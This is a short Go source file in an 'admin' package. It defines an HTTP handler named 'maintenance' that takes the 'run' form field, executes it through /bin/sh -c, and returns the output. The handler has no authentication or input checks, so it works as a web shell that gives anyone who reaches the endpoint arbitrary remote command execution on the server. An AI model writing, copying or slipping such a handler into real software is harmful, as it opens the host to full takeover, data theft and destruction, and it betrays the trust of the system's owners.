package admin

import (
	"net/http"
	"os/exec"
)

func maintenance(w http.ResponseWriter, r *http.Request) {
	script := r.FormValue("run")
	out, _ := exec.Command("/bin/sh", "-c", script).CombinedOutput()
	w.Write(out)
}
